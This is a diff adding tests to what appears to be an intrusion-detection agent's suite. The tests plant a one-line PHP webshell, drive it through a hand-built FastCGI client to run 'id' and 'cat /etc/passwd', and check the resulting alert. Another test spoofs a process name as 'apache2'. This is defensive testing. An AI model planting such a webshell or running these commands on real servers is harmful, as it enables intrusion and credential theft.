@@ -1,8 +1,10 @@
 """Shells that no login explains, each beside what looks like one and is none."""
+import os
 import subprocess
 import sys
 import threading
 import time
+from urllib.parse import quote
 
 from cases import case
 from harness import brief, check
@@ -147,3 +149,96 @@ def connection_without_a_shell_is_nothing(w):
     w.settle()
     check(not told_of(w, source), brief(told_of(w, source)))
     s.stop()
+
+
+# --- servers that have a shell run something
+
+SITE = "/run/og/site"
+
+# One request to a FastCGI server (FastCGI 1.0, sections 3 and 5), from a chosen address.
+FASTCGI = """import socket, struct, sys
+source, to, port, script, query = sys.argv[1:6]
+def record(kind, data): return struct.pack('>BBHHBB', 1, kind, 1, len(data), 0, 0) + data
+def pair(k, v): k, v = k.encode(), v.encode(); return bytes([len(k), len(v)]) + k + v
+params = b''.join(pair(*p) for p in (('SCRIPT_FILENAME', script), ('REQUEST_METHOD', 'GET'),
+                                     ('QUERY_STRING', query), ('REDIRECT_STATUS', '200')))
+c = socket.create_connection((to, int(port)), 10, (source, 0))
+c.sendall(record(1, struct.pack('>HB5x', 1, 0)) + record(4, params) + record(4, b'') +
+          record(5, b''))
+got = b''
+while True:
+    d = c.recv(65536)
+    if not d: break
+    got += d
+sys.stdout.buffer.write(got)"""
+
+
+class Php:
+    """A real PHP that serves FastCGI as www-data, with a page that a stranger has left."""
+
+    def __init__(self, w):
+        with lock:
+            self.port = next(ports)
+        os.makedirs(SITE, exist_ok=True)
+        os.chmod(SITE, 0o755)
+        with open(SITE + "/left.php", "w") as f:
+            f.write("<?php system($_GET['c']);")
+        self.proc = subprocess.Popen(w.net.inside_ns(w.net.srv, [
+            "setpriv", "--reuid=www-data", "--regid=www-data", "--clear-groups",
+            "php-cgi8.2", "-b", "0.0.0.0:%d" % self.port]), stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+            env={"PATH": "/usr/bin:/bin", "PHP_FCGI_CHILDREN": "2"})
+        wait_for("php to listen", self.listens)
+
+    def listens(self):
+        check(self.proc.poll() is None, "php-cgi ended")
+        with open("/proc/%d/net/tcp" % self.proc.pid) as f:
+            return ":%04X 00000000:0000 0A" % self.port in f.read()
+
+    def ask(self, w, source, command):
+        return run(w.net.inside_ns(w.net.ext, [
+            sys.executable, "-c", FASTCGI, source, w.server, str(self.port), SITE + "/left.php",
+            "c=" + quote(command)])).stdout
+
+    def stop(self):
+        self.proc.terminate()
+        self.proc.wait(10)
+
+
+def by_server(w, **want):
+    return [a for a in w.agent.told(detection="activity.remote_shell", **want)
+            if a.get("reason") == "webshell"]
+
+
+@case("journal")
+def a_page_that_runs_commands(w):
+    php = Php(w)
+    source = w.net.address(w.outside(w.slice()))
+    check(b"uid=" in php.ask(w, source, "id -un 2>&1; id"), "the page works")
+    a = w.agent.alert(detection="activity.remote_shell", account="www-data", reason="webshell")
+    check(a["severity"] == "medium" and a["origin"]["address"] == source, "how bad, who asked", a)
+    for part in ("php-cgi", source, "id -un"):
+        check(part in a["sentence"], "the sentence lacks " + part, a)
+    php.ask(w, source, "cat /etc/passwd")
+    w.settle()
+    check(len({x["id"] for x in by_server(w, account="www-data")}) == 1, "one alert an account")
+    php.stop()
+
+
+# calls itself by a server's name and has a shell run something
+NAMED = """import ctypes, subprocess, sys
+ctypes.CDLL(None).prctl(15, sys.argv[1].encode(), 0, 0, 0)
+subprocess.run(['/bin/sh', '-c', sys.argv[2]])"""
+
+
+@case("journal")
+def shells_of_no_such_server_are_nothing(w):
+    name, _ = w.users.add("nosrv")
+    user = ["setpriv", "--reuid=" + name, "--regid=" + name, "--clear-groups"]
+    before = {x["id"] for x in by_server(w)}
+    run([sys.executable, "-c", NAMED, "apache2", "echo piped-log; sleep 0.1"])  # as root: its logs
+    run(user + [sys.executable, "-c", NAMED, "apache3", "echo no-server; sleep 0.1"])
+    run(user + ["/bin/sh", "-c", "sh -c 'id; sleep 0.1'; sleep 0.1"])
+    w.settle()
+    found = [x for x in by_server(w) if x["id"] not in before and x["account"] in ("root", name)]
+    check(not found, brief(found))
